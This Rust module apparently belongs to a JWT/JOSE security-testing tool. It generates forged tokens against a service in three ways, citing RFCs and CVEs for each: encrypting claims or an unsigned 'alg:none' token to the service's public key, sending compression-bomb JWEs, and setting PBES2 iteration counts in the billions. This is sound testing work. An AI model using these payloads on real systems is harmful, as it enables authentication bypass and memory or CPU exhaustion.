//! Tokens that are encrypted instead of signed, and what decrypting them costs.

use gatepass_jose::base64url;
use gatepass_jose::jwe::{ContentEncryption, Encrypter, EncryptionKey, KeyManagement};
use gatepass_jose::{Jwk, Typ};

use super::{Class, Forge, NotTested, Variants, mistake};
use crate::attempt::Attempt;
use crate::draft::Draft;
use crate::object::quoted;
use crate::public_key::PublicKey;
use crate::token::Token;

pub(super) const CLASSES: &[Class] = &[
    mistake(
        "jwe-to-public-key",
        "claims encrypted to the service's public key, and not signed",
        "anybody who has the public key writes tokens",
        "RFC 8725 section 2.3; CVE-2023-51774",
        Forge::PublicKey(jwe_to_public_key),
    ),
    mistake(
        "jwe-zip",
        "a JWE of a few kilobytes that inflates to some megabytes",
        "one request without a private key fills the service's memory",
        "RFC 8725 section 3.6; CVE-2024-28176, CVE-2024-33664, CVE-2024-21319",
        Forge::PublicKey(jwe_zip),
    ),
    mistake(
        "jwe-iterations",
        "a JWE under a password that takes two thousand million rounds to derive",
        "one request without a key keeps a processor busy for minutes",
        "RFC 7518 section 4.8.1.2; CVE-2023-52428, CVE-2022-36083, CVE-2023-50967",
        Forge::Token(jwe_iterations),
    ),
];

/// The service's public key as one to encrypt to, under every algorithm that its type has.
fn encryption_keys(token: &Token, key: &PublicKey) -> Result<Vec<EncryptionKey>, NotTested> {
    const ALGS: [KeyManagement; 4] = [
        KeyManagement::RsaOaep,
        KeyManagement::RsaOaep256,
        KeyManagement::EcdhEs,
        KeyManagement::EcdhEsA128KW,
    ];
    let jwk = Jwk::parse(key.without_purpose().as_bytes()).ok();
    let to = |alg| EncryptionKey::from_jwk(jwk.as_ref()?, Some(alg)).ok();
    let keys: Vec<_> = ALGS.into_iter().filter_map(to).collect();
    if keys.is_empty() {
        return Err(NotTested::because(format!("nothing can be encrypted to a key for {}", token.alg())));
    }
    Ok(keys)
}

fn encrypted(encrypter: &Encrypter, plaintext: &[u8], key: &EncryptionKey) -> Result<String, NotTested> {
    encrypter.encrypt(plaintext, key).map_err(|error| NotTested::because(error.to_string()))
}

fn jwe_to_public_key(token: &Token, key: &PublicKey) -> Variants {
    let claims = token.payload.to_string();
    let unsecured = Draft::new(r#"{"alg":"none"}"#, &claims).unsigned();
    let mut attempts = Vec::new();
    for key in encryption_keys(token, key)? {
        for enc in [ContentEncryption::A128GCM, ContentEncryption::A256GCM, ContentEncryption::A128CbcHs256] {
            let plain = Encrypter::new(enc);
            let name = format!("claims under {} and {enc}", key.alg());
            attempts.push(Attempt::token(name, encrypted(&plain, claims.as_bytes(), &key)?));
        }
        let nesting = Encrypter::new(ContentEncryption::A256GCM).with_cty("JWT");
        let name = format!("an unsecured token under {}", key.alg());
        attempts.push(Attempt::token(name, encrypted(&nesting, unsecured.as_bytes(), &key)?));
        let typed = Encrypter::new(ContentEncryption::A256GCM).with_typ(Typ::ACCESS_TOKEN);
        let name = format!("claims with a type under {}", key.alg());
        attempts.push(Attempt::token(name, encrypted(&typed, claims.as_bytes(), &key)?));
    }
    Ok(attempts)
}

fn jwe_zip(token: &Token, key: &PublicKey) -> Variants {
    /// As 2 KiB of DEFLATE, so that the token still fits where header fields are bounded.
    const INFLATED: usize = 2 * 1024 * 1024;
    let claims = token.payload.to_string();
    let padded = format!("{claims}{}", " ".repeat(INFLATED));
    let encrypter = Encrypter::new(ContentEncryption::A256GCM).with_compression();
    let mut attempts = Vec::new();
    for key in encryption_keys(token, key)? {
        let name = format!("{INFLATED} bytes under {}", key.alg());
        attempts.push(Attempt::token(name, encrypted(&encrypter, padded.as_bytes(), &key)?));
    }
    Ok(attempts)
}

fn jwe_iterations(_: &Token) -> Variants {
    // The encrypted key, the initialization vector, a ciphertext and a tag that nobody gets to look at.
    let parts = [24, 12, 64, 16].map(|len| base64url::encode(&vec![0; len]));
    let mut attempts = Vec::new();
    for alg in ["PBES2-HS256+A128KW", "PBES2-HS512+A256KW"] {
        for rounds in ["2147483647", "4294967295", "9007199254740991", "18446744073709551615", "-1", "1e300"]
        {
            let header = format!(
                r#"{{"alg":{},"enc":"A128GCM","p2s":"AAAAAAAAAAAAAAAAAAAAAA","p2c":{rounds}}}"#,
                quoted(alg)
            );
            let jwe = format!("{}.{}", base64url::encode(header.as_bytes()), parts.join("."));
            attempts.push(Attempt::token(format!("{alg}, {rounds} rounds"), jwe));
        }
    }
    Ok(attempts)
}
